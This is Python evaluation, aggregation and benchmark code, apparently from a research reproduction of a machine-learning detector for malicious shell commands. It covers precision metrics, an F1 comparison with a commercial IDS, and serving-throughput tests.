    @property
    def model_wins(self) -> bool:
        """Whether the tuned model beats the commercial IDS on F1."""
        return self.ours_f1 > self.ids_f1


def compare_with_commercial_ids(
    poi: float,
    po: float,
    n_predicted_positive: int,
    s_commercial_detections: int,
    u: float = 1.0,
    ids_precision: float = 1.0,
) -> F1Comparison:
    """Build the full comparison from our method's evaluation numbers.

    Follows the paper: our recall on the predicted-positive set is 100%
    (all true positives in the set are spotted); our precision is PO&I.
    """
    ours_recall = 1.0
    ids_recall = commercial_ids_recall(
        s=s_commercial_detections, t=n_predicted_positive, x=po, u=u
    )
    return F1Comparison(
        ours_precision=poi,
        ours_recall=ours_recall,
        ours_f1=f1_from(poi, ours_recall),
        ids_precision=ids_precision,
        ids_recall=ids_recall,
        ids_f1=f1_from(ids_precision, ids_recall),
    )
