"""Multi-run aggregation: mean ± standard deviation over seeds.

Table I/II report "average performance over five runs ... together with
the standard deviation"; this module provides the aggregation and
formatting helpers the experiment drivers use.
"""

from __future__ import annotations

from collections.abc import Callable, Sequence
from dataclasses import dataclass

import numpy as np


@dataclass(frozen=True)
class Aggregate:
    """Mean and standard deviation of one metric across runs."""

    mean: float
    std: float
    n_runs: int

    def __str__(self) -> str:
        return f"{self.mean:.3f} ± {self.std:.3f}"


def aggregate(values: Sequence[float]) -> Aggregate:
    """Mean ± population std (ddof=0, matching small-sample reporting)."""
    array = np.asarray(list(values), dtype=np.float64)
    if array.size == 0:
        raise ValueError("cannot aggregate an empty sequence")
    return Aggregate(mean=float(array.mean()), std=float(array.std()), n_runs=array.size)


def aggregate_metric_dicts(runs: Sequence[dict[str, float]]) -> dict[str, Aggregate]:
    """Aggregate a list of per-run metric dicts key by key.

    All runs must share the same keys.
    """
    if not runs:
        raise ValueError("no runs to aggregate")
    keys = set(runs[0])
    for index, run in enumerate(runs[1:], start=2):
        if set(run) != keys:
            raise ValueError(f"run {index} metric keys differ from run 1")
    return {key: aggregate([run[key] for run in runs]) for key in sorted(keys)}


def repeat_runs(run_fn: Callable[[int], dict[str, float]], n_runs: int, base_seed: int = 0) -> dict[str, Aggregate]:
    """Execute ``run_fn(seed)`` for *n_runs* seeds and aggregate the metrics."""
    if n_runs < 1:
        raise ValueError("n_runs must be >= 1")
    results = [run_fn(base_seed + offset) for offset in range(n_runs)]
    return aggregate_metric_dicts(results)
