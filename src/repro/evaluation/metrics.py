"""The paper's evaluation metrics (Section V-A).

Definitions, following the paper exactly:

- A test sample is **in-box** when the commercial IDS flags it; in-box
  *intrusions* are flagged samples that are truly malicious (the IDS's
  precision is ~100%, so in practice these coincide).
- **PO@v** — precision of the top-``v`` *out-of-box* predictions: rank
  all samples the commercial IDS does **not** flag by model score, take
  the ``v`` highest, and measure the fraction that are truly malicious.
- **PO** — out-of-box precision at the operating threshold chosen so
  the model recalls ``u ≈ 100%`` of the in-box intrusions.
- **PO&I** — overall precision (in-box and out-of-box predictions
  together) at that same threshold.

All metric functions take raw arrays so they can be reused on any
scores; :func:`evaluate_method` bundles the full protocol.
"""

from __future__ import annotations

from dataclasses import dataclass, field

import numpy as np

from repro.ids.threshold import achieved_inbox_recall, calibrate_threshold


def _as_bool(mask: np.ndarray, name: str, n: int) -> np.ndarray:
    mask = np.asarray(mask).astype(bool)
    if mask.shape != (n,):
        raise ValueError(f"{name} must have shape ({n},), got {mask.shape}")
    return mask


def precision_at_top_outbox(
    scores: np.ndarray,
    truth: np.ndarray,
    inbox_mask: np.ndarray,
    v: int,
) -> float:
    """PO@v: precision of the top-*v* out-of-box predictions.

    Parameters
    ----------
    scores:
        Model scores (larger = more suspicious).
    truth:
        Ground-truth malicious flags.
    inbox_mask:
        Samples flagged by the commercial IDS (excluded from ranking).
    v:
        Size of the inspected prefix.
    """
    scores = np.asarray(scores, dtype=np.float64)
    n = scores.shape[0]
    truth = _as_bool(truth, "truth", n)
    inbox = _as_bool(inbox_mask, "inbox_mask", n)
    if v < 1:
        raise ValueError("v must be >= 1")
    candidates = np.nonzero(~inbox)[0]
    if candidates.size == 0:
        return 0.0
    v = min(v, candidates.size)
    order = candidates[np.argsort(-scores[candidates], kind="stable")]
    top = order[:v]
    return float(truth[top].mean())


def po_precision(
    scores: np.ndarray, truth: np.ndarray, inbox_mask: np.ndarray, threshold: float
) -> float:
    """PO: precision over out-of-box predicted positives at *threshold*."""
    scores = np.asarray(scores, dtype=np.float64)
    n = scores.shape[0]
    truth = _as_bool(truth, "truth", n)
    inbox = _as_bool(inbox_mask, "inbox_mask", n)
    predicted = (scores >= threshold) & ~inbox
    if not predicted.any():
        return 0.0
    return float(truth[predicted].mean())


def poi_precision(
    scores: np.ndarray, truth: np.ndarray, threshold: float
) -> float:
    """PO&I: overall precision over all predicted positives at *threshold*."""
    scores = np.asarray(scores, dtype=np.float64)
    truth = _as_bool(truth, "truth", scores.shape[0])
    predicted = scores >= threshold
    if not predicted.any():
        return 0.0
    return float(truth[predicted].mean())


@dataclass
class MethodEvaluation:
    """Full Section V-A evaluation of one method on one test set.

    Attributes mirror the paper's tables; ``po_at`` maps each requested
    ``v`` to PO@v.
    """

    method: str
    po: float
    poi: float
    po_at: dict[int, float] = field(default_factory=dict)
    threshold: float = 0.0
    inbox_recall: float = 0.0
    n_predicted_positive: int = 0
    n_outbox_predicted: int = 0

    def row(self, top_vs: tuple[int, ...]) -> list[str]:
        """Formatted table row: method, PO, PO&I, then PO@v columns."""
        cells = [self.method, f"{self.po:.3f}", f"{self.poi:.3f}"]
        cells.extend(f"{self.po_at.get(v, float('nan')):.3f}" for v in top_vs)
        return cells


def evaluate_method(
    method: str,
    scores: np.ndarray,
    truth: np.ndarray,
    inbox_mask: np.ndarray,
    recall_target: float = 1.0,
    top_vs: tuple[int, ...] = (100, 1000),
) -> MethodEvaluation:
    """Run the complete protocol: calibrate, then compute PO/PO&I/PO@v.

    The *in-box intrusions* used for calibration are the samples that
    are both IDS-flagged and truly malicious, matching the paper's
    "intrusions previously confirmed by the commercial IDS".
    """
    scores = np.asarray(scores, dtype=np.float64)
    n = scores.shape[0]
    truth_mask = _as_bool(truth, "truth", n)
    inbox = _as_bool(inbox_mask, "inbox_mask", n)
    inbox_intrusions = inbox & truth_mask
    threshold = calibrate_threshold(scores, inbox_intrusions, recall_target=recall_target)
    predicted = scores >= threshold
    return MethodEvaluation(
        method=method,
        po=po_precision(scores, truth_mask, inbox, threshold),
        poi=poi_precision(scores, truth_mask, threshold),
        po_at={v: precision_at_top_outbox(scores, truth_mask, inbox, v) for v in top_vs},
        threshold=threshold,
        inbox_recall=achieved_inbox_recall(scores, inbox_intrusions, threshold),
        n_predicted_positive=int(predicted.sum()),
        n_outbox_predicted=int((predicted & ~inbox).sum()),
    )


def precision_recall_f1(predictions: np.ndarray, truth: np.ndarray) -> tuple[float, float, float]:
    """Standard precision / recall / F1 for binary decision vectors."""
    predictions = np.asarray(predictions).astype(bool)
    truth = np.asarray(truth).astype(bool)
    if predictions.shape != truth.shape:
        raise ValueError("predictions and truth must have identical shapes")
    tp = int((predictions & truth).sum())
    fp = int((predictions & ~truth).sum())
    fn = int((~predictions & truth).sum())
    precision = tp / (tp + fp) if tp + fp else 0.0
    recall = tp / (tp + fn) if tp + fn else 0.0
    f1 = 2 * precision * recall / (precision + recall) if precision + recall else 0.0
    return precision, recall, f1
