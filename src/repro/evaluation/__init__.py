"""Evaluation protocol of Section V.

Public surface:

- :func:`evaluate_method` / :class:`MethodEvaluation` — PO, PO&I, PO@v.
- :func:`precision_at_top_outbox` / :func:`po_precision` /
  :func:`poi_precision` — the individual metrics.
- :func:`compare_with_commercial_ids` / :class:`F1Comparison` — Sec. V-B.
- :func:`aggregate` / :func:`repeat_runs` — mean ± std over seeds.
- :func:`format_table` — experiment output rendering.
"""

from repro.evaluation.comparison import (
    F1Comparison,
    commercial_ids_recall,
    compare_with_commercial_ids,
    f1_from,
)
from repro.evaluation.metrics import (
    MethodEvaluation,
    evaluate_method,
    po_precision,
    poi_precision,
    precision_at_top_outbox,
    precision_recall_f1,
)
from repro.evaluation.reporting import format_table
from repro.evaluation.runs import Aggregate, aggregate, aggregate_metric_dicts, repeat_runs

__all__ = [
    "Aggregate",
    "F1Comparison",
    "MethodEvaluation",
    "aggregate",
    "aggregate_metric_dicts",
    "commercial_ids_recall",
    "compare_with_commercial_ids",
    "evaluate_method",
    "f1_from",
    "format_table",
    "po_precision",
    "poi_precision",
    "precision_at_top_outbox",
    "precision_recall_f1",
    "repeat_runs",
]
