"""Benchmark: regenerate the Figure-2 pre-processing funnel + table."""

from repro.experiments.figure2 import run_figure2


def test_bench_figure2(world, benchmark):
    result = benchmark.pedantic(run_figure2, args=(world,), rounds=1, iterations=1)
    print("\n" + result.render())
    stats = result.stats
    benchmark.extra_info.update(
        {
            "total": stats.total,
            "parse_failures": stats.parse_failures,
            "command_filter_removed": stats.unconcerned_command,
            "kept": stats.kept,
        }
    )
    # Figure-2 structure: both filters fire, and the Zipf head of the
    # occurrence table is a shell staple.
    assert stats.parse_failures > 0
    assert stats.unconcerned_command > 0
    assert stats.kept + stats.removed == stats.total
    head_commands = [name for name, _ in stats.occurrence_table[:5]]
    assert any(name in ("cd", "ls", "echo", "sudo", "cat") for name in head_commands)
