"""Benchmark: exercise the Figure-1 end-to-end pipeline (train + infer)."""

from repro.experiments.figure1 import run_figure1


def test_bench_figure1(world, benchmark):
    result = benchmark.pedantic(run_figure1, args=(world,), kwargs={"seed": 0}, rounds=1, iterations=1)
    print("\n" + result.render())
    benchmark.extra_info["threshold"] = result.threshold
    flagged = [line for line, _, is_intrusion in result.verdicts if is_intrusion]
    benchmark.extra_info["flagged"] = len(flagged)
    # The inference path produces a verdict for every demo command and
    # flags at least one of the out-of-box attacks.
    assert len(result.verdicts) == 6
    assert len(flagged) >= 1
    # Benign baseline commands are not flagged.
    benign = {"ls -la /var/log", "python main.py --verbose"}
    assert not any(line in benign for line in flagged)
