"""Benchmark: regenerate the Section V-B F1 comparison."""

from repro.experiments.f1_comparison import run_f1_comparison


def test_bench_f1_comparison(world, benchmark):
    result = benchmark.pedantic(run_f1_comparison, args=(world,), kwargs={"seed": 0}, rounds=1, iterations=1)
    print("\n" + result.render())
    comparison = result.comparison
    benchmark.extra_info.update(
        {"ours_f1": comparison.ours_f1, "ids_f1": comparison.ids_f1, "ids_recall": comparison.ids_recall}
    )
    # Structure of the comparison (paper, Sec. V-B): the IDS keeps perfect
    # precision but pays in recall because it cannot see out-of-box
    # intrusions; our recall on the predicted-positive set is 1 by
    # construction.
    assert comparison.ids_precision == 1.0
    assert comparison.ours_recall == 1.0
    assert comparison.ids_recall < 1.0
