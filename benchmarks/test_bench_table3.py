"""Benchmark: regenerate Table III (in-box vs out-of-box example pairs)."""

from repro.experiments.table3 import run_table3


def test_bench_table3(world, benchmark):
    result = benchmark.pedantic(run_table3, args=(world,), kwargs={"seed": 0}, rounds=1, iterations=1)
    print("\n" + result.render())
    benchmark.extra_info["n_generalized"] = result.n_generalized
    # Structural half of the table is exact: IDS catches every in-box
    # example and none of the out-of-box ones.
    assert all(pair.ids_flags_inbox for pair in result.pairs)
    assert not any(pair.ids_flags_outbox for pair in result.pairs)
    # The model digs out a majority of what the IDS missed (paper: all).
    assert result.n_generalized >= len(result.pairs) // 2
