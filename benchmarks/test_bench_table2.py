"""Benchmark: regenerate Table II (PO@v over the out-of-box ranking)."""

from conftest import bench_runs

from repro.evaluation.runs import Aggregate
from repro.experiments.table2 import run_table2


def _mean(value):
    return value.mean if isinstance(value, Aggregate) else value


def test_bench_table2(world, benchmark):
    result = benchmark.pedantic(
        run_table2, args=(world,), kwargs={"n_runs": bench_runs()}, rounds=1, iterations=1
    )
    print("\n" + result.render())
    benchmark.extra_info.update(
        {f"po_at_{result.v1}_{k}": _mean(v) for k, v in result.po_at_v1.items()}
    )
    benchmark.extra_info.update(
        {f"po_at_{result.v2}_{k}": _mean(v) for k, v in result.po_at_v2.items()}
    )
    # Shape checks (paper, Table II): the top of every ranking is mostly
    # real intrusions, and classification holds up at depth v2 at least
    # as well as the unsupervised-ish methods.
    assert _mean(result.po_at_v1["classification"]) >= 0.5
    assert _mean(result.po_at_v1["classification (multi)"]) >= 0.5
    assert (
        _mean(result.po_at_v2["classification"])
        >= _mean(result.po_at_v2["retrieval"]) - 0.15
    )
