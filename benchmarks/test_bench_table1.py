"""Benchmark: regenerate Table I (PO / PO&I, mean ± std over runs)."""

from conftest import bench_runs

from repro.experiments.table1 import run_table1


def test_bench_table1(world, benchmark):
    result = benchmark.pedantic(
        run_table1, args=(world,), kwargs={"n_runs": bench_runs()}, rounds=1, iterations=1
    )
    print("\n" + result.render())
    benchmark.extra_info.update(
        {
            "reconstruction_po": result.reconstruction_po.mean,
            "reconstruction_poi": result.reconstruction_poi.mean,
            "classification_po": result.classification_po.mean,
            "classification_poi": result.classification_poi.mean,
            "retrieval_po": result.retrieval_po,
            "retrieval_poi": result.retrieval_poi,
        }
    )
    # Shape checks (paper, Table I): every method clears a sane floor and
    # classification beats retrieval overall.
    assert 0.0 <= result.retrieval_po <= 1.0
    assert result.classification_poi.mean > 0.3
    assert result.classification_poi.mean >= result.retrieval_poi - 0.15
