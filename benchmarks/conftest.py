"""Shared world fixture for the benchmark harness.

Every benchmark regenerates one table/figure of the paper.  They share a
single world (telemetry + pre-trained LM) built once per session.

Scale control:

- default: a bench-sized world (~5k train lines) so the whole suite
  finishes in minutes;
- ``REPRO_SCALE=small|full``: the library's standard configurations for
  results closer to the paper's regime (see EXPERIMENTS.md);
- ``REPRO_BENCH_RUNS``: tuning runs per mean±std table (default 2;
  the paper uses 5).
"""

import json
import os
from pathlib import Path

import pytest

from repro.experiments.common import World, WorldConfig, build_world, default_world_config

#: Committed serving-throughput snapshot (repo root).  Benchmarks append
#: their headline numbers to the ``serving_snapshot`` fixture; at session
#: end the collected entries are written here — but only when the file
#: does not exist yet, or ``REPRO_BENCH_RECORD=1`` forces a refresh, so a
#: plain test run never dirties the working tree.
BENCH_SNAPSHOT_PATH = Path(__file__).resolve().parent.parent / "BENCH_serving.json"

#: A recorded metric may regress by at most this fraction before the
#: regression gate fails (>20% slower than the committed snapshot).
REGRESSION_TOLERANCE = 0.20


def committed_entries() -> dict:
    """The benchmark entries of the committed snapshot ({} when absent)."""
    if not BENCH_SNAPSHOT_PATH.exists():
        return {}
    return json.loads(BENCH_SNAPSHOT_PATH.read_text()).get("benchmarks", {})


@pytest.fixture(scope="session")
def serving_snapshot():
    """Dict the serving benchmarks drop their headline metrics into.

    Ratio metrics (speedups, hit rates) are machine-stable and are gated
    against the committed snapshot inside the tests themselves; absolute
    throughput gates additionally require ``REPRO_BENCH_GATE_ABSOLUTE=1``
    because events/sec is a property of the runner, not the code.
    """
    recorded: dict = {}
    yield recorded
    if not recorded:
        return
    if BENCH_SNAPSHOT_PATH.exists() and os.environ.get("REPRO_BENCH_RECORD") != "1":
        return
    entries = {**committed_entries(), **recorded}
    payload = {
        "suite": "serving",
        "note": (
            "Headline serving-bench numbers; regenerate with "
            "REPRO_BENCH_RECORD=1 pytest benchmarks/test_bench_serving.py"
        ),
        "benchmarks": entries,
    }
    BENCH_SNAPSHOT_PATH.write_text(json.dumps(payload, indent=2, sort_keys=True) + "\n")


@pytest.fixture(scope="session")
def bench_regression_gate():
    """``gate(name, metrics)``: fail on a >20% regression vs the snapshot.

    Ratio keys (``speedup``, ``*_rate``) are compared whenever the
    committed snapshot has them; absolute ``*_events_per_second`` keys
    only under ``REPRO_BENCH_GATE_ABSOLUTE=1``.
    """

    def gate(name: str, metrics: dict) -> None:
        committed = committed_entries().get(name)
        if not committed:
            return
        check_absolute = os.environ.get("REPRO_BENCH_GATE_ABSOLUTE") == "1"
        for key, new_value in metrics.items():
            old_value = committed.get(key)
            if not isinstance(old_value, (int, float)) or not isinstance(
                new_value, (int, float)
            ):
                continue
            is_ratio = key == "speedup" or key.endswith("_rate")
            is_absolute = key.endswith("_events_per_second")
            if not (is_ratio or (is_absolute and check_absolute)):
                continue
            floor = old_value * (1.0 - REGRESSION_TOLERANCE)
            assert new_value >= floor, (
                f"{name}.{key} regressed >20% vs BENCH_serving.json: "
                f"{new_value:.2f} < {floor:.2f} (committed {old_value:.2f})"
            )

    return gate


def bench_world_config() -> WorldConfig:
    """The world configuration benchmarks run against."""
    if "REPRO_SCALE" in os.environ:
        return default_world_config()
    return WorldConfig(
        train_lines=5_000,
        test_lines=3_000,
        vocab_size=800,
        pretrain_epochs=2,
        tuning_subsample=3_000,
        top_vs=(10, 60),
        seed=1,
    )


def bench_runs() -> int:
    """Tuning runs for the mean±std tables."""
    return int(os.environ.get("REPRO_BENCH_RUNS", "2"))


@pytest.fixture(scope="session")
def world() -> World:
    """The shared reproduction world (cached across benchmark modules)."""
    return build_world(bench_world_config())
