"""Shared world fixture for the benchmark harness.

Every benchmark regenerates one table/figure of the paper.  They share a
single world (telemetry + pre-trained LM) built once per session.

Scale control:

- default: a bench-sized world (~5k train lines) so the whole suite
  finishes in minutes;
- ``REPRO_SCALE=small|full``: the library's standard configurations for
  results closer to the paper's regime (see EXPERIMENTS.md);
- ``REPRO_BENCH_RUNS``: tuning runs per mean±std table (default 2;
  the paper uses 5).
"""

import os

import pytest

from repro.experiments.common import World, WorldConfig, build_world, default_world_config


def bench_world_config() -> WorldConfig:
    """The world configuration benchmarks run against."""
    if "REPRO_SCALE" in os.environ:
        return default_world_config()
    return WorldConfig(
        train_lines=5_000,
        test_lines=3_000,
        vocab_size=800,
        pretrain_epochs=2,
        tuning_subsample=3_000,
        top_vs=(10, 60),
        seed=1,
    )


def bench_runs() -> int:
    """Tuning runs for the mean±std tables."""
    return int(os.environ.get("REPRO_BENCH_RUNS", "2"))


@pytest.fixture(scope="session")
def world() -> World:
    """The shared reproduction world (cached across benchmark modules)."""
    return build_world(bench_world_config())
