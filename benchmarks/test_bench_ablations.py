"""Benchmark: the design-choice ablations (retrieval-k, PCA variance,
multi-line window, pooling, ensemble)."""

from repro.experiments.ablations import run_ablations


def test_bench_ablations(world, benchmark):
    result = benchmark.pedantic(run_ablations, args=(world,), kwargs={"seed": 0}, rounds=1, iterations=1)
    print("\n" + result.render())
    benchmark.extra_info["n_tables"] = len(result.tables)
    # every declared ablation produced a populated table
    expected = {
        "retrieval scoring (Sec. IV-D innovation)",
        "PCA variance kept (unsupervised)",
        "multi-line context width (Sec. IV-C)",
        "embedding pooling (Sec. III)",
        "ensemble of methods (Sec. V-C)",
        "test-set de-duplication granularity (Sec. V)",
    }
    assert expected == set(result.tables)
    assert all(rows for rows in result.tables.values())
