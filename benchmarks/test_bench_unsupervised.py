"""Benchmark: the Section-III unsupervised PCA anecdotes."""

from conftest import bench_world_config

from repro.experiments.common import build_world
from repro.experiments.unsupervised import rare_attack_config, run_unsupervised


def test_bench_unsupervised(benchmark):
    # Section III needs anomalies to be *rare*, so this benchmark builds
    # its own low-attack-rate world instead of sharing the boosted one.
    world = build_world(rare_attack_config(bench_world_config()))
    result = benchmark.pedantic(run_unsupervised, args=(world,), rounds=1, iterations=1)
    print("\n" + result.render())
    benchmark.extra_info.update(
        {
            "masscan_rank": -1 if result.masscan_best_rank is None else result.masscan_best_rank + 1,
            "abnormal_benign_in_top50": result.abnormal_benign_in_top50,
            "n_test": result.n_test,
        }
    )
    # The scan line must be present and ranked; the abnormal-yet-benign
    # false-alarm phenomenon (the motivation for Section IV) must appear.
    assert result.masscan_best_rank is not None
    assert result.masscan_best_rank < result.n_test
    assert len(result.top10) == 10
