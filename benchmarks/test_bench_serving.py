"""Benchmarks: streaming throughput (cold vs. warm cache, sharded vs.
inline scoring, shard-router pipelining), cache-admission hit rates,
and hot-swap latency.

Real command telemetry is repeat-heavy (the SCADE observation the
serving cache is built on), so we stream a repeat-heavy event mix twice
through one server: the first pass pays tokenize+forward for every
distinct line (cold), the second is served almost entirely from the LRU
cache (warm).  The warm pass must be at least 2× faster.

The sharded benchmark measures the other scaling axis: the same
cold-cache workload scored inline on the event loop vs. sharded across
worker processes (``ProcessPoolBackend``).  On a multi-core runner the
sharded pass must reach at least 1.5× inline throughput; on a
single-core box the numbers are recorded without the assertion (there
is nothing to parallelize onto).  The swap benchmark measures how long
``swap_model`` holds the scoring path while a live stream keeps
flowing, and that the rotation loses zero events.

The shard-router benchmark isolates what the per-shard pipelines buy:
a single-shard server serializes every micro-batch behind one score
lock, so with a fixed per-batch forward-pass cost its throughput is
``batch_size / batch_cost`` regardless of backend width; four shards
overlap four batches on the same backend.  The admission benchmark
replays a Zipf-with-scan stream and demands the TinyLFU gate's hit
rate be at least plain LRU's.
"""

import asyncio
import os
import time

import numpy as np

from repro.experiments.methods import HEAD_EPOCHS, HEAD_LR, training_subset
from repro.ids import IntrusionDetectionService
from repro.serving import (
    CommandEvent,
    DetectionServer,
    ProcessPoolBackend,
    SessionConfig,
    ThreadedBackend,
    serve_stream,
)
from repro.tuning import ClassificationTuner

UNIQUE_LINES = 150
REPEATS = 8
SHARD_WORKERS = 2


def _build_service(world) -> IntrusionDetectionService:
    subset = training_subset(world, seed=0)
    tuner = ClassificationTuner(
        world.encoder, lr=HEAD_LR, epochs=HEAD_EPOCHS, pooling="mean", seed=0
    )
    tuner.fit(subset.lines, subset.labels)
    return IntrusionDetectionService.from_tuner(tuner, threshold=0.5)


def _repeat_heavy_stream(world) -> list[str]:
    unique = world.test_lines_dedup[:UNIQUE_LINES]
    stream = unique * REPEATS
    return [stream[i] for i in np.random.default_rng(0).permutation(len(stream))]


def test_bench_serving_cold_vs_warm(world, benchmark, serving_snapshot):
    service = _build_service(world)
    events = _repeat_heavy_stream(world)
    server = DetectionServer(service, max_batch=32, max_latency_ms=25, cache_size=8192)

    started = time.perf_counter()
    cold_results, _ = serve_stream(service, events, concurrency=8, server=server)
    cold_seconds = time.perf_counter() - started
    cold_eps = len(cold_results) / cold_seconds

    # same stream again on the same server: every line is now cached
    warm_results, _ = benchmark.pedantic(
        serve_stream,
        args=(service, events),
        kwargs={"concurrency": 8, "server": server},
        rounds=1,
        iterations=1,
    )
    warm_seconds = benchmark.stats.stats.mean
    warm_eps = len(warm_results) / warm_seconds

    snapshot = server.metrics.snapshot()
    benchmark.extra_info.update(
        {
            "events": len(events),
            "cold_events_per_second": round(cold_eps, 1),
            "warm_events_per_second": round(warm_eps, 1),
            "speedup": round(warm_eps / cold_eps, 2),
            "cache_hit_rate": snapshot["cache_hit_rate"],
            "mean_batch_size": snapshot["mean_batch_size"],
            "latency_p99_ms": snapshot["latency_p99_ms"],
        }
    )
    serving_snapshot["cold_vs_warm"] = {
        "events": len(events),
        "cold_events_per_second": round(cold_eps, 1),
        "warm_events_per_second": round(warm_eps, 1),
        "cache_hit_rate": round(snapshot["cache_hit_rate"], 4),
        "latency_p99_ms": round(snapshot["latency_p99_ms"], 2),
    }
    print(
        f"\nserving: {len(events)} events | cold {cold_eps:,.0f} ev/s | "
        f"warm {warm_eps:,.0f} ev/s | speedup {warm_eps / cold_eps:.1f}x | "
        f"hit-rate {snapshot['cache_hit_rate']:.2%}"
    )

    assert len(warm_results) == len(events)
    # intra-stream repeats already make the cold pass partially cached;
    # the fully-warm pass must still be at least 2× faster end to end.
    assert warm_eps >= 2.0 * cold_eps
    # the warm pass added no misses — all its events were cache hits
    assert all(result.cache_hit for result in warm_results)


def _timed_stream(server, events, *, concurrency=8):
    """Stream *events* through *server* inside ONE server session.

    A short warmup prefix runs before the clock starts, so one-time
    costs (forking workers, per-worker bundle deserialization) are paid
    where a steady-state server pays them: at startup, not per batch.
    Returns (results, seconds) for the measured portion only.
    """

    async def _run():
        async def drive(batch):
            pending = asyncio.Queue()
            for position, line in enumerate(batch):
                pending.put_nowait((position, line))
            results = [None] * len(batch)

            async def producer():
                while True:
                    try:
                        position, item = pending.get_nowait()
                    except asyncio.QueueEmpty:
                        return
                    if isinstance(item, CommandEvent):
                        results[position] = await server.submit_event(item)
                    else:
                        results[position] = await server.submit(item)

            await asyncio.gather(*(producer() for _ in range(concurrency)))
            return results

        async with server:
            await drive(events[:16])  # warmup: workers fork + load here
            started = time.perf_counter()
            results = await drive(events)
            elapsed = time.perf_counter() - started
        return results, elapsed

    return asyncio.run(_run())


def test_bench_serving_sharded_vs_inline(world, benchmark, tmp_path_factory, serving_snapshot):
    """Cold-cache throughput: ProcessPoolBackend(n=2) vs. InlineBackend."""
    service = _build_service(world)
    bundle = tmp_path_factory.mktemp("serving-bench") / "bundle"
    service.save(bundle)
    # all-unique workload with caching off: every event pays a forward
    # pass, so the comparison isolates where that pass runs
    events = list(world.test_lines_dedup[:UNIQUE_LINES])

    inline_server = DetectionServer(
        service, cache_size=0, max_batch=32, max_latency_ms=25
    )
    inline_results, inline_seconds = _timed_stream(inline_server, events)
    inline_eps = len(inline_results) / inline_seconds

    backend = ProcessPoolBackend(bundle, workers=SHARD_WORKERS, min_shard=4)
    server = DetectionServer(
        service, backend=backend, cache_size=0, max_batch=32, max_latency_ms=25
    )
    sharded_results, sharded_seconds = benchmark.pedantic(
        _timed_stream, args=(server, events), rounds=1, iterations=1
    )
    sharded_eps = len(sharded_results) / sharded_seconds
    speedup = sharded_eps / inline_eps

    benchmark.extra_info.update(
        {
            "events": len(events),
            "workers": SHARD_WORKERS,
            "cpu_count": os.cpu_count(),
            "inline_events_per_second": round(inline_eps, 1),
            "sharded_events_per_second": round(sharded_eps, 1),
            "speedup": round(speedup, 2),
            "per_worker_scored": dict(backend.per_worker_scored),
        }
    )
    serving_snapshot["sharded_vs_inline"] = {
        "events": len(events),
        "workers": SHARD_WORKERS,
        "inline_events_per_second": round(inline_eps, 1),
        "sharded_events_per_second": round(sharded_eps, 1),
    }
    print(
        f"\nsharded serving: {len(events)} events | inline {inline_eps:,.0f} ev/s | "
        f"{SHARD_WORKERS}-worker {sharded_eps:,.0f} ev/s | speedup {speedup:.2f}x "
        f"({os.cpu_count()} cpus)"
    )

    assert len(sharded_results) == len(events)
    # both paths agree on every verdict (scores may differ in the last ulp)
    for a, b in zip(inline_results, sharded_results):
        assert a.is_intrusion == b.is_intrusion
        assert abs(a.score - b.score) < 1e-9
    # the batch really was sharded across distinct worker processes
    assert len(backend.per_worker_scored) >= 2
    if (os.cpu_count() or 1) >= 2:
        assert speedup >= 1.5, (
            f"ProcessPoolBackend({SHARD_WORKERS}) must beat inline by >=1.5x on a "
            f"multi-core runner, got {speedup:.2f}x"
        )


def test_bench_serving_swap_latency(world, benchmark, tmp_path_factory):
    """Hot-swap latency under sustained submit load, with zero event loss."""
    service = _build_service(world)
    bench_dir = tmp_path_factory.mktemp("swap-bench")
    bundle_v1 = bench_dir / "bundle-v1"
    bundle_v2 = bench_dir / "bundle-v2"
    service.save(bundle_v1)
    # the rotated bundle: same weights, recalibrated threshold — the
    # cheap end of the weekly update, so the bench isolates swap cost
    original_threshold = service.threshold
    rotated_threshold = min(0.95, original_threshold + 0.1)
    service.threshold = rotated_threshold
    service.save(bundle_v2)
    service.threshold = original_threshold

    events = list(world.test_lines_dedup[:UNIQUE_LINES])

    def run_swap_under_load():
        server = DetectionServer(
            service,
            backend=ProcessPoolBackend(bundle_v1, workers=SHARD_WORKERS),
            cache_size=4096,
            max_batch=32,
            max_latency_ms=10,
        )

        async def scenario():
            pending = asyncio.Queue()
            for line in events:
                pending.put_nowait(line)
            results = []

            async def producer():
                while True:
                    try:
                        line = pending.get_nowait()
                    except asyncio.QueueEmpty:
                        return
                    results.append(await server.submit(line))

            async def swapper():
                while len(results) < len(events) // 4:
                    await asyncio.sleep(0.005)
                return await server.swap_model(str(bundle_v2))

            async with server:
                *_, report = await asyncio.gather(
                    *(producer() for _ in range(8)), swapper()
                )
            return results, report, server

        return asyncio.run(scenario())

    results, report, server = benchmark.pedantic(run_swap_under_load, rounds=1, iterations=1)

    benchmark.extra_info.update(
        {
            "events": len(events),
            "workers": SHARD_WORKERS,
            "swap_ms": round(report.swap_ms, 2),
            "drain_ms": round(report.drain_ms, 2),
            "cache_invalidated": report.cache_invalidated,
        }
    )
    print(
        f"\nhot swap under load: {len(events)} events | swap {report.swap_ms:.1f} ms "
        f"(drain {report.drain_ms:.1f} ms) | {report.cache_invalidated} cache entries purged"
    )

    # zero events lost across the swap, and the swap really landed mid-stream
    assert len(results) == len(events)
    assert not any(result.dropped for result in results)
    assert {result.generation for result in results} == {0, 1}
    assert server.metrics.swaps == 1
    # post-swap events were thresholded by the rotated bundle
    post_swap = [result for result in results if result.generation == 1]
    assert all(
        result.is_intrusion == (result.score >= rotated_threshold)
        or abs(result.score - rotated_threshold) < 1e-9
        for result in post_swap
    )


class _FixedCostService:
    """Deterministic service with a visible per-batch forward-pass cost.

    ``time.sleep`` inside ``score_normalized`` models the encoder's
    batch latency while releasing the GIL (as BLAS does), so the bench
    isolates the *serving-plane* property under test — whether whole
    batches from different shards overlap — from model-speed variance
    on the CI runner.
    """

    threshold = 0.5

    def __init__(self, batch_cost_s: float = 0.004):
        self.batch_cost_s = batch_cost_s

    def preprocess(self, raw: str) -> str | None:
        line = " ".join(raw.split())
        return line or None

    def score_normalized(self, lines):
        time.sleep(self.batch_cost_s)
        return np.array([0.9 if "evil" in line else 0.1 for line in lines])


def _multi_host_mostly_miss_stream(n_events=1024, hosts=64):
    """Distinct lines across many hosts: every event pays a forward pass."""
    return [
        CommandEvent(f"task --job {i} --node n{i % 7}", host=f"host-{i % hosts}")
        for i in range(n_events)
    ]


def test_bench_serving_sharded_router_throughput(benchmark, serving_snapshot, bench_regression_gate):
    """4-shard throughput >= 1.5x single-shard on a mostly-miss stream.

    Both layouts share the same 4-worker threaded backend and the same
    cold cache; the only variable is the shard router.  The single
    shard's global score lock serializes batches; four shards keep up
    to four batches in flight, so the speedup measures exactly the
    inter-batch parallelism the refactor exists to unlock.
    """
